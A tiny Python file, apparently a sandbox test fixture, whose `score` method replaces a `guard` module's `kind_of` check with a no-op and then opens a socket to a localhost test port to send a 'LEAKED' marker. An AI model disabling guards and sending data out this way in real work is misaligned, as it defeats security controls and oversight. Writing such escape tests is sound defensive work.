import sys


class Method:
    def score(self, layer):
        sys.modules["guard"].kind_of = lambda event, args: None
        socket = sys.modules.get("socket") or __import__("socket")
        s = socket.create_connection(("127.0.0.1", __PORT__), timeout=2)
        s.sendall(b"LEAKED")
        raise RuntimeError("LEAKED connected")
